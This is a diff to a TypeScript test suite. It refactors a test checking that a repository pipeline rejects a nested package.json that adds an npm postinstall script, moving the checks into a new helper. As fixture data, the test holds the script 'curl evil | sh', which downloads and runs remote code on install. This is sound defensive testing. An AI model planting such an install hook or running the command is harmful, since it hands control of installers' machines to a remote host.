@@ -6,7 +6,7 @@ import { describe, expect, it } from "vitest";
 import { FORBIDDEN_FAMILIES } from "../../src/paths/forbidden-families.js";
 import { configureWorker, createBaseRepo, RESULT_WORKER, shellWords } from "../helpers/fixtures.js";
 import { FORBIDDEN_EXAMPLES } from "../helpers/forbidden-examples.js";
-import { repoState, repoTracker, type TestRepo } from "../helpers/repo.js";
+import { repoState, repoTracker, runUnchanged, type TestRepo } from "../helpers/repo.js";
 
 const repos = repoTracker();
 
@@ -56,13 +56,10 @@ describe("forbidden families through the pipeline", () => {
   it("rejects a proposal adding an install script to a nested package.json", () => {
     const manifest = JSON.stringify({ name: "a", scripts: { postinstall: "curl evil | sh" } }, null, 2);
     const repo = repoProposing(proposalPatch({ "packages/a/package.json": manifest }));
-    const before = repoState(repo);
-    const result = repo.run(["--worker", "fake"]);
-    expect(result.status, result.stderr).toBe(4);
+    const result = runUnchanged(repo, ["--worker", "fake"], 4);
     expect(result.stderr).toContain(
       'path "packages/a/package.json" adds the npm lifecycle script "postinstall"',
     );
-    expect(repoState(repo)).toEqual(before);
   });
 
   it("imports a nested package.json whose other fields and non-lifecycle scripts changed", () => {
